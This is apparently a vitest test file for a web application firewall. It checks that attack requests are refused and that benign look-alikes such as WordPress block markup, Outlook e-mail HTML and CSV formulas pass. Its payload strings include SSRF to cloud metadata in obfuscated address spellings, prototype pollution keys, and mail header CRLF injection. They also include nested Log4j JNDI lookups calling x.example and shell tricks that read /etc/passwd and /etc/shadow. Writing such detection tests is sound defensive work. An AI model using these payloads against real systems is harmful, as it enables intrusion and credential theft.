// Attack classes that trail CRS or were missing, through a real edge at level 1 (and 2 where the
// level decides): SSRF to cloud metadata in any spelling, prototype pollution in names and keys,
// mail header injection, nested Log4j lookups and shell tricks; and the ordinary requests that
// look a little like them (an editor's block markup, e-mail HTML, prose, a Windows path in a
// search, a spreadsheet's formulas) passed. Refused requests never reach the backend.
import { afterAll, beforeAll, describe, it } from 'vitest';
import { multipart } from '../helpers/waf-corpus.ts';
import { form, json, part, query, WafEdge, type Sent } from '../helpers/waf-edge.ts';

let edge: WafEdge;
const host = (level: number) => `classes${level}.example`;
const rawJson = (text: string): Sent => ({ path: '/api', headers: { 'content-type': 'application/json' }, body: text });
const expectRefused = (cases: Array<[string, Sent]>, level = 1) => edge.expectRefused(cases, host(level));
const expectPassed = (cases: Array<[string, Sent]>, level = 1) => edge.expectPassed(cases, host(level));

beforeAll(async () => {
  edge = await WafEdge.start([1, 2].map((level) => ({ domain: host(level), settings: { waf_level: level } })));
}, 150_000);

afterAll(() => edge?.stop());

describe('edge: attack classes at level 1', () => {
  it('refuses cloud metadata addresses in any spelling, as a URL host or a bare host, in queries, forms, JSON and multipart (SSRF)', async () => {
    const urls = [
      'http://169.254.169.254/latest/meta-data/',
      'http://2852039166/latest/meta-data/',
      'http://0xa9fea9fe/latest/meta-data/',
      'http://0251.0376.0251.0376/latest/meta-data/',
      'http://0xa9.0xfe.0xa9.0xfe/',
      'http://169.254.43518/',
      'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
      'http://[::ffff:169.254.169.254]/latest/meta-data/',
      'http://169.254.169.254.nip.io/latest/meta-data/',
      'http://169-254-169-254.sslip.io/',
      'http://a9fea9fe.nip.io/',
      'http://metadata.google.internal/computeMetadata/v1/instance/',
      'http://100.100.100.200/latest/meta-data/',
      'http://[fd00:ec2::254]/latest/meta-data/',
      'http://user:pw@169.254.169.254:80/latest/meta-data/',
      'gopher://169.254.169.254:80/_GET%20/',
      'http:\\\\169.254.169.254\\latest\\meta-data',
      'http://169.254.170.2/v2/credentials/',
    ];
    const bare = ['169.254.169.254', '0xa9fea9fe', '169.254.169.254.nip.io', '[::ffff:a9fe:a9fe]', 'fd00:ec2::254', '100.100.100.200:80'];
    await expectRefused([
      ...urls.map((u): [string, Sent] => [`query ${u}`, query('url', u)]),
      ...bare.map((b): [string, Sent] => [`bare ${b}`, query('host', b)]),
      ['form', form({ webhook: urls[0]! })],
      ['JSON value', json({ avatar: { source: urls[2] } })],
      ['JSON bare host', json({ target: '169.254.169.254' })],
      ['multipart field', part('image_url', urls[7]!)],
      ['path', { path: `/proxy/${urls[0]}` }],
    ]);
  });

  it('decides loopback and private URL hosts by level: disguised spellings at 1, any at 2; never in Referer', async () => {
    const disguised = ['http://0x7f000001/admin', 'http://2130706433/admin', 'http://0177.0.0.1/admin', 'http://127.1/admin', 'http://[::ffff:127.0.0.1]/admin'];
    const plain = ['http://127.0.0.1:8080/admin', 'http://localhost/server-status', 'http://10.0.0.5/', 'http://192.168.1.1/cgi-bin/', 'http://[::1]/'];
    await expectRefused(disguised.map((u) => [u, query('url', u)]));
    await expectPassed(plain.map((u) => [u, query('url', u)]));
    await expectRefused(plain.map((u) => [u, query('url', u)]), 2);
    await expectPassed([['Referer at level 2', { path: '/', headers: { referer: 'http://localhost:3000/cart' } }]], 2);
  });

  it('passes URLs, addresses and versions that are not metadata (SSRF benign)', async () => {
    await expectPassed([
      ['URL', query('url', 'https://example.org/images/cat.jpg?size=large')],
      ['version as a dotted quad', query('version', '1.2.3.4')],
      ['version in prose', query('q', 'upgrade from 10.0.0.1 to 10.0.0.2')],
      ['a ten-digit id', query('id', '2852039166')],
      ['public address', query('ip', '203.0.113.7')],
      ['prose about the address', form({ comment: 'Never expose 169.254.169.254 to tenants; IMDSv2 needs a token.' })],
      ['JSON with a link', json({ homepage: 'https://www.example.com/about', build: '4.10.2.1' })],
    ]);
  });

  it('refuses prototype pollution in JSON keys at any depth, query and form names, multipart field names', async () => {
    await expectRefused([
      ['JSON __proto__', rawJson('{"__proto__": {"isAdmin": true}}')],
      ['JSON deep __proto__', rawJson('{"user": {"prefs": [{"__proto__": {"admin": 1}}]}}')],
      ['JSON constructor.prototype', rawJson('{"a": {"constructor": {"prototype": {"polluted": "yes"}}}}')],
      ['JSON escaped key', rawJson('{"\\u005f\\u005fproto\\u005f\\u005f": {"x": 1}}')],
      ['query a[__proto__][x]', { path: '/q?a[__proto__][x]=1' }],
      ['query __proto__.x', { path: '/q?__proto__.x=1' }],
      ['query encoded', { path: '/q?a%5B__proto__%5D%5Bx%5D=1' }],
      ['query constructor[prototype]', { path: '/q?constructor[prototype][admin]=1' }],
      ['query constructor.prototype', { path: '/q?x.constructor.prototype.admin=1' }],
      ['form name', { path: '/form', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'user%5B__proto__%5D%5BisAdmin%5D=true' }],
      ['multipart field name', part('__proto__[isAdmin]', 'true')],
    ]);
  });

  it('passes the words __proto__, constructor and prototype in prose values and ordinary keys', async () => {
    await expectPassed([
      ['query prose', query('q', 'why is obj.__proto__ deprecated? use Object.getPrototypeOf instead of obj.__proto__.')],
      ['form prose', form({ answer: 'Before classes, methods lived on Foo.constructor.prototype in old JavaScript.' })],
      ['JSON value', json({ title: 'Understanding __proto__ and prototype chains', tags: ['constructor', 'prototype'] })],
      ['JSON key prototype alone', json({ prototype: { name: 'v2 mock-up' }, constructor_name: 'Ann' })],
    ]);
  });

  it('refuses a mail header after a line break in a form, JSON or query value, raw or percent-encoded', async () => {
    await expectRefused([
      ['form Bcc (CRLF)', form({ email: 'ann@example.org\r\nBcc: everyone@example.net' })],
      ['form Cc (LF)', form({ name: 'Ann\nCc: list@example.net' })],
      ['form To', form({ subject: 'Hello\r\nTo: victim@example.net' })],
      ['form Subject', form({ email: 'ann@example.org\r\nSubject: You won' })],
      ['form Content-Type', form({ name: 'Ann\r\nContent-Type: text/html' })],
      ['form Reply-To', form({ name: 'Ann\nReply-To: attacker@example.net' })],
      ['form From', form({ name: 'Ann\r\nFrom: ceo@example.org' })],
      ['form double-encoded', { path: '/form', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'email=ann%40example.org%250d%250aBcc%3A%20x%40example.net' }],
      ['JSON', json({ email: 'ann@example.org\r\nBcc: x@example.net' })],
      ['query %0d%0a', { path: '/q?email=ann%40example.org%0d%0aBcc:%20x%40example.net' }],
      ['query %0a', { path: '/q?subject=Hi%0aBcc:%20x%40example.net' }],
      ['multipart', part('email', 'ann@example.org\r\nBcc: x@example.net')],
    ]);
  });

  it('passes multi-line text without header lines', async () => {
    await expectPassed([
      ['textarea', form({ message: 'Hello team,\r\nthe meeting moved to 3pm.\r\nTo be clear: bring the slides.\r\nSubjects to cover are below.\r\nThanks, Ann' })],
      ['JSON message', json({ body: 'Hi!\nFrom now on we meet on Mondays.\nCc me on the notes please.' })],
    ]);
  });

  it('refuses nested and obfuscated Log4j lookups, ${PATH:0:1} and for /f … in (\'command\')', async () => {
    await expectRefused([
      ["${date:'j'}", query('q', "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}")],
      ['${${lower:j}ndi:…}', query('q', '${${lower:j}ndi:ldap://x.example/a}')],
      ['${::-j}', query('q', '${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}')],
      ['header', { path: '/', headers: { 'x-api-version': "${${date:'j'}ndi:dns://x.example/a}" } }],
      ['${PATH:0:1}', query('file', 'cat ${PATH:0:1}etc${PATH:0:1}passwd')],
      ['${HOME:0:1} alone', query('f', '${HOME:0:1}etc${HOME:0:1}shadow')],
      ['JSON ${PATH:0:1}', json({ dir: '${PATH:0:1}var${PATH:0:1}log' })],
      ["for /f in ('whoami')", query('q', 'for /f "tokens=*" %i in (\'whoami\') do @echo %i')],
      ['form for /f', form({ cmd: "for /f %a in ('type c:\\secret.txt') do echo %a" })],
    ]);
  });
});

describe('edge: ordinary requests at level 1 that looked like attacks', () => {
  it('passes WordPress block-editor saves (REST JSON): paragraphs, headings, lists, images, quotes, code blocks', async () => {
    const save = (content: string) => ({ path: '/wp-json/wp/v2/posts/12?_locale=user', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ id: 12, title: 'Spring update', status: 'draft', content }) });
    const blocks: Array<[string, string]> = [
      ['paragraph', '<!-- wp:paragraph -->\n<p>Hello</p>\n<!-- /wp:paragraph -->'],
      ['heading', '<!-- wp:heading {"level":3} -->\n<h3 class="wp-block-heading">Our plans</h3>\n<!-- /wp:heading -->'],
      ['list', '<!-- wp:list -->\n<ul class="wp-block-list"><!-- wp:list-item -->\n<li>One</li>\n<!-- /wp:list-item --><!-- wp:list-item -->\n<li>Two</li>\n<!-- /wp:list-item --></ul>\n<!-- /wp:list -->'],
      ['image', '<!-- wp:image {"id":42,"sizeSlug":"large","linkDestination":"none"} -->\n<figure class="wp-block-image size-large"><img src="https://example.org/wp-content/uploads/2024/05/cat.jpg" alt="A cat" class="wp-image-42"/></figure>\n<!-- /wp:image -->'],
      ['quote', '<!-- wp:quote -->\n<blockquote class="wp-block-quote"><!-- wp:paragraph -->\n<p>To be or not to be</p>\n<!-- /wp:paragraph --><cite>Hamlet</cite></blockquote>\n<!-- /wp:quote -->'],
      ['code (JS)', '<!-- wp:code -->\n<pre class="wp-block-code"><code>const total = items.reduce((a, b) =&gt; a + b, 0);\nconsole.log(total);</code></pre>\n<!-- /wp:code -->'],
      ['code (Python)', '<!-- wp:code -->\n<pre class="wp-block-code"><code>def greet(name):\n    return f"Hello, {name}"</code></pre>\n<!-- /wp:code -->'],
      ['code (shell)', '<!-- wp:code -->\n<pre class="wp-block-code"><code>cd my-site\nnpm install\nnpm run build</code></pre>\n<!-- /wp:code -->'],
      ['mixed', '<!-- wp:heading -->\n<h2 class="wp-block-heading">Notes</h2>\n<!-- /wp:heading -->\n\n<!-- wp:paragraph -->\n<p>See <a href="https://example.org/docs">the docs</a>; <strong>update</strong> the roadmap.</p>\n<!-- /wp:paragraph -->'],
    ];
    await expectPassed(blocks.map(([name, content]) => [name, save(content)]));
  });

  it('passes e-mail HTML with Outlook conditional comments', async () => {
    const email = '<!DOCTYPE html><html><head><!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]--></head><body><!--[if mso]><table role="presentation" width="600"><tr><td><![endif]--><div style="max-width:600px"><p>Spring newsletter</p></div><!--[if mso]></td></tr></table><![endif]--></body></html>';
    await expectPassed([
      ['JSON template', json({ name: 'Spring newsletter', html: email })],
      ['form template', form({ subject: 'Spring newsletter', html: email })],
    ]);
  });

  it('passes prose with "; update …" and "; delete …", a Windows path in a search box, a CSV with HYPERLINK formulas', async () => {
    const csv = Buffer.from('name,link,total\r\nDocs,"=HYPERLINK(""https://example.org/docs"",""Docs"")",=SUM(C2:C9)\r\nShop,"=HYPERLINK(""https://shop.example.org/"",""Shop"")",=B2*2\r\n');
    const upload = multipart({ title: 'links' }, { field: 'file', name: 'links.csv', type: 'text/csv', bytes: csv });
    await expectPassed([
      ['prose ; update', form({ message: 'We met on Monday; update the roadmap by Friday please.' })],
      ['prose ; delete', form({ message: 'The trash works like this; delete removes them for good.' })],
      ['query ; update', query('q', 'notes from standup; update the roadmap')],
      ['search c:\\windows\\system32', query('q', 'c:\\windows\\system32')],
      ['search C:\\Windows\\System32 dll', query('search', 'C:\\Windows\\System32 missing dll')],
      ['CSV upload', { path: '/import', headers: { 'content-type': upload.contentType }, body: upload.body }],
    ]);
  });
});
